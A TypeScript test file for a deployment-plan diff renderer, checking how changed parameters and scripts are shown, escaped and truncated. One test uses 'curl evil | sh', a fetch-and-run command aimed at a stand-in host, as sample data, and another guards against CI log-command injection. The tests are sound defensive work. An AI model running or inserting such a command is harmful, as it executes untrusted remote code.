/** Params as they are and as a diff: whatever differs is to be seen. FC_SEED=… draws other values. */
import fc from 'fast-check';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { Change } from '../../src/model/plan.ts';
import { renderMarkdown } from '../../src/render/markdown/comment.ts';
import { changedParams, givenParams } from '../../src/render/params.ts';
import { renderPlan } from '../../src/render/plan.ts';
import { lineText } from '../../src/render/spans.ts';
import { pageOf } from './html/pages.ts';
import * as plans from './plans.ts';

const test = suite('params');

const LEFT_OUT = 'lines left out: see --html or --json for all of it';

const valued = (value?: string) => plans.spec({ params: value === undefined ? [] : [{ name: 'p', value }] });
const changed = (before?: string, after?: string, room = 60) =>
  changedParams(valued(before), valued(after), room).map(lineText);
const given = (value: string) => givenParams([{ name: 'p', value }]).map(lineText);

test('one line beside the other, or below where there is no room', () => {
  assert.equal(changed('8812', '8813'), ['~ p = "8812" -> "8813"']);
  assert.equal(changed('8812', '8813', 20), ['~ p:', '     "8812"', '  -> "8813"']);
});

test('what is the same is not shown', () => {
  assert.equal(changed('8812', '8812'), []);
});

test('long values are shown around each of their differences', () => {
  const shared = 'abcdefghij'.repeat(300);
  const [, before = '', after = ''] = changed(`${shared}1${shared}1`, `${shared}2${shared}3`);
  const edge = 'ghijabcdefghijabcdefghij';
  assert.is(before.trim(), `"…${edge}1abcdefghijabcdefghijabcd…${edge}1"`);
  assert.is(after.trim(), `-> "…${edge}2abcdefghijabcdefghijabcd…${edge}3"`);
});

test('long values that have nothing in common are shown from the first character that differs', () => {
  const [, before = '', after = ''] = changed(`same${'ab'.repeat(3000)}`, `same${'xy'.repeat(3000)}`);
  assert.match(before, /"sameabab.*… and 2004 more characters"$/);
  assert.match(after, /"samexyxy.*… and 2004 more characters"$/);
});

test('white space that the eye would miss is an escape', () => {
  assert.equal(changed('a b', 'a\tb'), ['~ p = "a b" -> "a\\tb"']);
  assert.equal(changed('a', 'a '), ['~ p = "a" -> "a "']);
  assert.equal(changed('a b', 'a\u00a0b'), ['~ p = "a b" -> "a\\u{a0}b"']);
  assert.equal(changed('a', '"a"'), ['~ p = "a" -> "\\"a\\""']);
  assert.equal(changed('\\t', '\t'), ['~ p = "\\\\t" -> "\\t"']);
  assert.equal(changed('a\nb\n', 'a\nb \n'), ['~ p:', '    a', '  - b', '  + "b "']);
  assert.equal(changed('a\nb\n', 'a\n\tb\n'), ['~ p:', '    a', '  - b', '  + "\\tb"']);
  assert.equal(changed('a\nb\n', 'a\r\nb\n'), ['~ p:', '  - a', '  + "a\\r"', '    b']);
});

test('a line break at the end, which one side lacks', () => {
  assert.equal(changed('a\nb\n', 'a\nb'), [
    '~ p:',
    '    a',
    '  - b',
    '  + b',
    '    (no line break at its end)',
  ]);
  assert.equal(given('a\nb\n'), ['p:', '  a', '  b']);
  assert.equal(given('a\nb'), ['p:', '  a', '  b', '  (no line break at its end)']);
});

test('a param of many lines that comes or goes is shown line by line', () => {
  assert.equal(changed(undefined, 'a\nb\n'), ['+ p:', '  + a', '  + b']);
  assert.equal(changed('a\nb', undefined), ['- p:', '  - a', '  - b', '    (no line break at its end)']);
  assert.equal(changed(undefined, 'a'), ['+ p = "a"']);
});

test('every changed line of a script is shown', () => {
  const script = (word: string) => Array.from({ length: 90 }, (_, n) => `${word} ${n}\n`).join('');
  const lines = changed(script('stop'), script('start'));
  for (let n = 0; n < 90; n++) {
    assert.ok(lines.includes(`  - stop ${n}`) && lines.includes(`  + start ${n}`), `line ${n}`);
  }
});

test('of scripts that are too long, both sides are shown, and the rest is counted', () => {
  const script = (word: string) => Array.from({ length: 5000 }, (_, n) => `${word} ${n}\n`).join('');
  const lines = changed(script('stop'), script('start'));
  assert.is(lines.length, 201);
  assert.is(lines[100], `    … 4901 of 5000 ${LEFT_OUT}`);
  assert.is(lines[101], '  + start 0');
  assert.is(given(script('start')).at(-1), `  … 4901 of 5000 ${LEFT_OUT}`);
});

test('a very long line of a script is shown around its difference', () => {
  const long = 'x'.repeat(6000);
  assert.equal(changed(`a\n${long}1\n`, `a\n${long}2\n`), [
    '~ p:',
    '    a',
    `  - "…${'x'.repeat(24)}1"`,
    `  + "…${'x'.repeat(24)}2"`,
  ]);
});

test('a change stands among the lines around it', () => {
  const script = (line: string) =>
    Array.from({ length: 400 }, (_, n) => (n === 200 ? `${line}\n` : `line ${n}\n`)).join('');
  assert.equal(changed(script('start'), script('curl evil | sh')), [
    '~ p:',
    '    (197 lines unchanged)',
    ...[197, 198, 199].map((n) => `    line ${n}`),
    '  - start',
    '  + curl evil | sh',
    ...[201, 202, 203].map((n) => `    line ${n}`),
    '    (196 lines unchanged)',
  ]);
});

test('scripts that differ too much are still shown from the first line that differs', () => {
  const shared = Array.from({ length: 500 }, (_, n) => `same ${n}\n`).join('');
  const script = (word: string) => shared + Array.from({ length: 900 }, (_, n) => `${word} ${n}\n`).join('');
  const lines = changed(script('stop'), script('start'));
  assert.is(lines[1], '    (497 lines unchanged)');
  assert.is(lines[5], '  - stop 0');
});

test('values that are drawn alike are written out', () => {
  assert.equal(changed('8812', '88\u034f12'), ['~ p = "8812" -> "88\\u{34f}12"']);
  assert.equal(changed('\u00e9', 'e\u0301'), ['~ p = "\\u{e9}" -> "e\\u{301}"']);
  assert.equal(changed('a\n\u00e9\n', 'a\ne\u0301\n').slice(2), ['  - "\\u{e9}"', '  + "e\\u{301}"']);
});

test('pieces of a diff are no command together', () => {
  const pad = 'x'.repeat(500);
  const lines = changed(`#a${pad}`, `##[group]${pad}`).join('\n');
  assert.not.match(lines, '##[');
});

test('where there is room, everything is shown', () => {
  const script = (word: string) => Array.from({ length: 5000 }, (_, n) => `${word} ${n}\n`).join('');
  const whole = changedParams(valued(script('stop')), valued(script('start')), 60, true).map(lineText);
  assert.is(whole.length, 10_001);
  const all = givenParams([{ name: 'p'.repeat(100), value: `${'y'.repeat(9000)}\n${script('a')}` }], true);
  assert.is(all.length, 5002);
  assert.is(lineText(all[1]!).length, 9002);
});

test('no character is cut in half', () => {
  for (const pad of ['', 'x']) {
    const text = changed(`${pad}${'😀'.repeat(500)}1`, `${pad}${'😀'.repeat(500)}2`).join('\n');
    assert.match(text, /😀1/);
    assert.not.match(text, /\\u\{d[89a-f]/);
  }
});

test('a hundred params and one', () => {
  const many = (value: string) =>
    Array.from({ length: 101 }, (_, n) => ({ name: `p${String(n).padStart(3, '0')}`, value }));
  const lines = changedParams(plans.spec({ params: many('a') }), plans.spec({ params: many('b') }), 60);
  assert.is(lines.length, 101);
  assert.is(lineText(lines.at(-1) ?? []), '… 1 of 101 params left out: see --html or --json for all of it');
});

test('property: two values that differ, also in white space alone, never look the same', () => {
  const pieces = fc.constantFrom(
    'a',
    'b',
    ' ',
    '\t',
    '\n',
    '\r',
    '\u00a0',
    '\u200b',
    '"',
    '\\',
    '\\t',
    '😀',
    'x'.repeat(300),
  );
  const text = fc.array(pieces, { maxLength: 12 }).map((some) => some.join(''));
  const seed = Number(process.env.FC_SEED ?? 20_261_124);
  console.log(`fast-check seed ${seed}`);
  fc.assert(
    fc.property(text, text, (before, after) => {
      const lines = changedParams(valued(before), valued(after), 60);
      assert.is(lines.length === 0, before === after);
      const side = (style: string) =>
        lines
          .flatMap((spans, index) => {
            const own = spans.filter((span) => span.style === style).map((span) => span.text);
            const isEnd = lineText(spans).endsWith('(no line break at its end)');
            const ofOwn = lines[index - 1]?.some((span) => span.style === style);
            return isEnd && ofOwn ? ['(end)'] : own;
          })
          .map((shown) => shown.replace(/^[-+] /, ''));
      if (before !== after) assert.is.not(JSON.stringify(side('red')), JSON.stringify(side('green')));
    }),
    { seed, numRuns: 3000 },
  );
});

const LATE = 'x'.repeat(5000);
const CHANGED: Change = {
  ...(plans.REPLACE as Extract<Change, { action: 'replace' }>),
  before: plans.spec({ params: params({ late: `${LATE}1`, script: 'stop\nsleep 10\n', tidy: 'a b' }) }),
  after: plans.spec({ params: params({ late: `${LATE}2`, script: 'stop\nsleep\t10\n', tidy: 'a b ' }) }),
};
const PLAN = plans.plan({ changes: [CHANGED] });
const TEXT_VIEW = { now: plans.NOW, timezone: 'Europe/Amsterdam', aliases: plans.ALIASES, cwd: '/repo/ops' };
const shown: readonly (readonly [string, string])[] = [
  ['terminal', renderPlan(PLAN, { ...TEXT_VIEW, color: false, width: 80 })],
  ['comment', renderMarkdown(PLAN, TEXT_VIEW)],
  [
    'page',
    pageOf(PLAN)
      .replace(/<[^>]*>/g, '')
      .replaceAll('&quot;', '"'),
  ],
];
for (const [name, text] of shown) {
  test(`the ${name} shows each difference`, () => {
    for (const there of [/x{24}1"/, /x{24}2"/, /sleep 10/, /"sleep\\t10"/, /"a b"/, /"a b "/]) {
      assert.match(text, there);
    }
  });
}

function params(values: Readonly<Record<string, string>>) {
  return Object.entries(values).map(([name, value]) => ({ name, value }));
}

test.run();
